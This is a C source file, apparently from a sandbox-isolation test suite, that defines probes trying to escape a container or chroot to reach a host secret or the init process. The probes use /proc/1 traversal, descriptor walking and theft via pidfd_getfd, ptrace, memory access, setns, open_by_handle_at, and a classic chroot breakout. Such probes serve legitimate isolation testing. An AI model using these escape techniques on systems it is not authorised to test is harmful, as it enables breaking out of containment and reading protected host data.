// view.c - ways to a file of the host, and to the init.
#define _GNU_SOURCE
#include "attacker.h"
#include <dirent.h>
#include <sched.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>

static int below(const char *where) {
  char path[4096];
  snprintf(path, sizeof path, "%s%s", where, setting("SECRET"));
  return reads_secret(AT_FDCWD, path);
}

static int directly(void) { return reads_secret(AT_FDCWD, setting("SECRET")); }
static int above_root(void) { return below("/../../../../../../.."); }
static int root_of_init(void) { return below("/proc/1/root"); }
static int folder_of_init(void) { return below("/proc/1/cwd"); }
static int above_folder_of_init(void) { return below("/proc/1/cwd/../../../../../../.."); }
static int root_of_thread_of_init(void) { return below("/proc/1/task/1/root"); }

// Also where a descriptor is of a folder of the host, and `..` leads on.
static int through_descriptors(const char *whose) {
  char path[64];
  int error = ENOENT;
  for (int fd = 0; fd < 256; fd++) {
    snprintf(path, sizeof path, "%s/%d/../../../../../../..", whose, fd);
    if (!below(path)) return 0;
    if (errno != ENOENT && errno != ENOTDIR) error = errno;
  }
  errno = error;
  return -1;
}
static int own_descriptors(void) { return through_descriptors("/proc/self/fd"); }
static int descriptors_of_init(void) { return through_descriptors("/proc/1/fd"); }

static int write_exe_of_init(void) { return opens("/proc/1/exe", O_WRONLY | O_APPEND); }
static int write_memory_of_init(void) { return opens("/proc/1/mem", O_RDWR); }
static int mappings_of_init(void) {
  DIR *folder = opendir("/proc/1/map_files");
  if (!folder) return -1;
  errno = 0;
  for (int i = 0; i < 3; i++) // who may not look is told so at the first entry, behind `.` and `..`
    if (!readdir(folder)) break;
  int error = errno;
  closedir(folder);
  errno = error;
  return error ? -1 : 0;
}

static int seize_init(void) { return ptrace(PTRACE_SEIZE, 1, 0, 0) ? -1 : 0; } // let go when this process ends
static int trace_init(void) { return apart(seize_init); }

static int read_memory_of_init(void) {
  char byte;
  struct iovec here = { &byte, 1 }, there = { (void *)0x1000, 1 };
  if (process_vm_readv(1, &here, 1, &there, 1, 0) == 1 || errno == EFAULT) return 0; // it may, and there is nothing
  return -1;
}

static int steal_descriptor_of_init(void) {
  int init = (int)syscall(SYS_pidfd_open, 1, 0);
  if (init < 0) return -1;
  int stolen = (int)syscall(SYS_pidfd_getfd, init, 3, 0), error = errno;
  close(init);
  errno = error;
  return stolen < 0 ? -1 : close(stolen);
}

static int enter(int kinds) {
  int init = (int)syscall(SYS_pidfd_open, 1, 0);
  return init < 0 || setns(init, kinds) ? -1 : 0;
}
static int into_mounts(void) { return enter(CLONE_NEWNS); }
static int enter_mounts_of_init(void) { return apart(into_mounts); }

// The group namespace of the init is the board's: see SECURITY.md for what that needs.
static int into_groups(void) {
  int fd = open("/proc/1/ns/cgroup", O_RDONLY | O_CLOEXEC);
  return fd < 0 || setns(fd, CLONE_NEWCGROUP) ? -1 : 0;
}
static int enter_groups_of_init(void) { return apart(into_groups); }

// What the kernel gave for the file on the host, used with a mount of the same filesystem.
static int by_handle(void) {
  union {
    struct file_handle head;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } handle = { .head = { 0 } };
  const char *hex = setting("HANDLE"); // TYPE:BYTES
  char *at;
  handle.head.handle_type = (int)strtol(hex, &at, 10);
  for (at++; at[0] && at[1]; at += 2) {
    char two[3] = { at[0], at[1], 0 };
    handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)strtol(two, 0, 16);
  }
  int mount = open(setting("MOUNT"), O_RDONLY | O_CLOEXEC);
  if (mount < 0) return -1;
  int fd = open_by_handle_at(mount, &handle.head, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  char text[64] = "";
  errno = EBADMSG;
  return read(fd, text, sizeof text - 1) > 0 && !strncmp(text, setting("MARK"), strlen(setting("MARK"))) ? 0 : -1;
}

// handle PATH: TYPE:BYTES of it, as `by_handle` wants them.
int tell_handle(int argc, char **argv) {
  union {
    struct file_handle head;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } handle = { .head = { .handle_bytes = MAX_HANDLE_SZ } };
  int mount;
  if (argc != 1 || name_to_handle_at(AT_FDCWD, argv[0], &handle.head, &mount, 0)) return perror("handle"), 1;
  printf("%d:", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
  puts("");
  return 0;
}

// The classic way out of a chroot(2): a working directory that is not below the new root.
static int leave_root(void) {
  int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  mkdir(scratch("jail"), 0700);
  if (top < 0 || chroot(scratch("jail")) || fchdir(top)) return -1;
  for (int i = 0; i < 64; i++)
    if (chdir("..")) return -1;
  return chroot(".") ? -1 : reads_secret(AT_FDCWD, setting("SECRET") + 1);
}
static int leave_chroot(void) { return apart(leave_root); }

const struct probe view_probes[] = {
  { "directly", directly },
  { "above_root", above_root },
  { "root_of_init", root_of_init },
  { "root_of_thread_of_init", root_of_thread_of_init },
  { "folder_of_init", folder_of_init },
  { "above_folder_of_init", above_folder_of_init },
  { "own_descriptors", own_descriptors },
  { "descriptors_of_init", descriptors_of_init },
  { "write_exe_of_init", write_exe_of_init },
  { "write_memory_of_init", write_memory_of_init },
  { "read_memory_of_init", read_memory_of_init },
  { "mappings_of_init", mappings_of_init },
  { "trace_init", trace_init },
  { "steal_descriptor_of_init", steal_descriptor_of_init },
  { "enter_mounts_of_init", enter_mounts_of_init },
  { "enter_groups_of_init", enter_groups_of_init },
  { "by_handle", by_handle },
  { "leave_chroot", leave_chroot },
  { 0, 0 },
};
